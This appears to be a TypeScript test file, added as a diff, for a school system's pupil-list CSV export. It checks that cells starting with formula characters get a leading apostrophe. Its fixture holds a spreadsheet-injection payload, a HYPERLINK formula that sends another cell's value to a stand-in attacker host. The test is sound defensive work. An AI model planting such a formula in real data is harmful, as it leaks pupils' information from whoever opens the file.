@@ -1,0 +1,68 @@
+/**
+ * Security review (attacker helper), exports: a cell that a spreadsheet program would run as a formula (it starts with
+ * =, +, - or @) must not reach a CSV of pupils' data as a formula. A pupil's name comes from a Magister/Somtoday import
+ * or from a form, so anyone who can put text there could otherwise make the decaan's Excel fetch a link or run a formula
+ * when opening the export. Each cell gets a leading apostrophe instead, as in the other CSV exports (inventaris,
+ * menukaart, inschrijvingen, keuzedeelresultaten).
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { databaseAvailable, SKIP_NO_DB, TEST_DB } from '../support/db.js';
+import { startExamenWorld, type ExamenWorld } from '../support/examen-world.js';
+import { createCohort, pupil } from '../support/leerlingen-factory.js';
+
+/** Cells of a semicolon CSV line (RFC 4180 quoting). */
+function cells(line: string): string[] {
+  const out: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < line.length; i++) {
+    const ch = line[i]!;
+    if (quoted) {
+      if (ch === '"' && line[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ';') {
+      out.push(cell);
+      cell = '';
+    } else cell += ch;
+  }
+  out.push(cell);
+  return out;
+}
+
+describe.skipIf(!databaseAvailable)(`exports of pupils' data carry no formulas (${TEST_DB})`, () => {
+  if (!databaseAvailable) console.warn(`[tests] ${SKIP_NO_DB}`);
+  let w: ExamenWorld;
+
+  beforeAll(async () => {
+    w = await startExamenWorld();
+  });
+  afterAll(async () => {
+    await w?.t.close();
+  });
+
+  it('the pupil list of a cohort (leerlingen.csv): a name or klas starting with = + - @ gets a leading apostrophe', async () => {
+    const c = await createCohort(w, { naam: 'Formules' });
+    const gevaarlijk = {
+      roepnaam: '=HYPERLINK("https://aanvaller.example/?d="&B3;"Klik")',
+      tussenvoegsel: '@SUM(1)',
+      achternaam: '+31 6 12345678',
+      klas: '-2+3',
+    };
+    await w.call('vmbo-beheerder', 'POST', `/api/cohorten/${c.id}/leerlingen`, pupil(1, gevaarlijk), 201);
+    await w.call('vmbo-beheerder', 'POST', `/api/cohorten/${c.id}/leerlingen`, pupil(2, { roepnaam: 'Anna', achternaam: 'de Vries' }), 201);
+
+    const res = await w.app.inject({ method: 'GET', url: `/api/cohorten/${c.id}/leerlingen.csv`, headers: w.as('vmbo-decaan') });
+    expect(res.statusCode).toBe(200);
+    const [kop, ...regels] = res.body.replace(/^\uFEFF/, '').trim().split('\r\n').map(cells);
+    expect(kop).toEqual(['Leerlingnummer', 'Roepnaam', 'Tussenvoegsel', 'Achternaam', 'Klas', 'Leerweg', 'Geboortedatum', 'ECK iD']);
+    const rij = regels.find((r) => r[0] === '100001')!;
+    expect(rij.slice(1, 5)).toEqual([`'${gevaarlijk.roepnaam}`, `'${gevaarlijk.tussenvoegsel}`, `'${gevaarlijk.achternaam}`, `'${gevaarlijk.klas}`]);
+    // No cell of the file starts with a formula character; ordinary names are as they were.
+    for (const r of regels) for (const cel of r) expect(cel).not.toMatch(/^[=+\-@\t\r]/);
+    expect(regels.find((r) => r[0] === '100002')!.slice(1, 4)).toEqual(['Anna', '', 'de Vries']);
+  });
+});
